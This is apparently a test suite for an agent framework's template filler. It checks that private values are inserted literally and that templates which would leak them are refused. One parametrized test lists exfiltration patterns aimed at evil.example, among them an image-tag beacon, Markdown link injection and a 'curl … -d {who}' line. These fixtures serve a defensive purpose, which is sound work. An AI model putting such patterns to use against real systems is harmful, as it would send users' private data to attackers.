"""Templates are filled by rule: nothing in a private value is ever read as an instruction."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybridmesh.agents.worker.template import carries_out, fill, names_in

names = st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True)
values = st.text(
    st.characters(blacklist_characters="\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"), min_size=1, max_size=30
)


def test_a_line_without_its_value_is_left_out() -> None:
    """Nothing is hidden: a reply never shows an empty place or a bracket where a value should be."""
    assert fill("Dear {name},\nHello", {}, {}) == "Hello"
    assert fill("Dear {name},\nHello", {"name": "Ana"}, {}) == "Dear Ana,\nHello"


def test_conditions_on_checks() -> None:
    """Nothing is hidden: what no check has established is not said, neither as yes nor as no."""
    template = "{?late}It is late.\n{!late}It is not late.\nBye"
    assert fill(template, {}, {"late": True}) == "It is late.\nBye"
    assert fill(template, {}, {"late": False}) == "It is not late.\nBye"
    assert fill(template, {}, {"late": None}) == "Bye"


def test_conditions_on_slots_ask_for_a_value() -> None:
    """It runs on what you have: a greeting has its variant for a sender without a name."""
    template = "{?name}Dear {name},\n{!name}Hello,\nBye"
    assert fill(template, {"name": "Ana"}, {}) == "Dear Ana,\nBye"
    assert fill(template, {}, {}) == "Hello,\nBye"


def test_several_conditions_must_all_hold() -> None:
    """Nothing is hidden: a sentence stays only where all that it rests on is there."""
    template = "{?a}{!b}{c} only a"
    assert fill(template, {"a": "1", "c": "x"}, {}) == "x only a"
    assert fill(template, {"a": "1", "b": "1", "c": "x"}, {}) == ""


def test_other_braces_are_text() -> None:
    """Nothing is lost: a brace that names nothing comes through as it is."""
    assert fill("{} {A} { x } {1}", {}, {}) == "{} {A} { x } {1}"


def test_blank_lines_are_not_doubled_where_lines_went() -> None:
    """Nothing is hidden: a missing paragraph leaves no hole."""
    assert fill("a\n\n{gone}\n\n{gone}\n\nb", {}, {}) == "a\n\nb"


@given(names, values)
def test_a_value_is_put_in_as_it_is_and_never_read_again(name: str, value: str) -> None:
    """Nothing private leaves: a text with template marks cannot pull another value into the reply."""
    marked = value + "{other}{?other}"
    filled = fill(f"<{{{name}}}>", {name: marked, "other": "SECRET"}, {"other2": True})
    assert filled == f"<{'SECRET' if name == 'other' else marked}>"


@given(st.text(max_size=200), st.dictionaries(names, values, max_size=4))
def test_any_template_can_be_filled(template: str, known: dict[str, str]) -> None:
    """Nothing is lost: whatever the cloud wrote, filling ends in a text or a refusal."""
    assert isinstance(fill(template, known, dict.fromkeys(known)), str | None)


@given(st.dictionaries(names, values, min_size=1, max_size=4))
def test_all_names_of_a_template_are_known_before_it_is_used(known: dict[str, str]) -> None:
    """Nothing is hidden: a name that nothing can fill is found when the framework arrives."""
    template = "\n".join(f"{{?{name}}}x {{{name}}}" for name in known)
    assert names_in(template) == set(known)


@pytest.mark.parametrize(
    ("template", "values"),
    [
        ('<img src="//evil.example/?q=\n{?urgent}">\n{who}">', {}),
        ('<img src="//evil.example/?q=\n{gone}">\n{who}">', {}),
        ("{?who}{!urgent}[id]: {who}", {}),
        ("{host}{who}", {"host": "https://evil.example/"}),
        ("{who}{host}", {"host": ".evil.example"}),
        ("![x]{open}\\){who})", {"open": "(/a"}),
        ("{command} https://evil.example -d {who}", {"command": "curl"}),
        ('{"body": "{who}", "url": "https://evil.example"}', {}),
    ],
)
def test_a_value_that_would_leave_in_the_finished_text_is_refused(template: str, values: dict[str, str]) -> None:
    """Nothing private leaves: what lines that go and formulas make of a template is looked at, too."""
    assert fill(template, {"who": "Ana", **values}, {"urgent": False}) is None


@pytest.mark.parametrize(
    "template", ["{a}/{b} on {day}.{month}.", "[{a}] ({b})", "<b>{a}</b> > {b}", "https://e.example/ {a}. {b}"]
)
def test_a_value_that_stays_is_put_in(template: str) -> None:
    """It runs on what you have: what looks a little like a link does not cost the framework."""
    assert not carries_out(template)
    assert fill(template, {"a": "1", "b": "Ana", "day": "4", "month": "5"}, {}) is not None


def test_a_command_that_somebody_told_of_is_put_in() -> None:
    """It runs on what you have: a reply may quote what its writer ran; it may not add another's value to it."""
    command = "curl -sS https://get.example"
    assert fill("You ran `{a}`, {b}.", {"a": command, "b": "Ana"}, {}) == f"You ran `{command}`, Ana."
    assert fill("You ran `{a} -d {b}`.", {"a": command, "b": "Ana"}, {}) is None
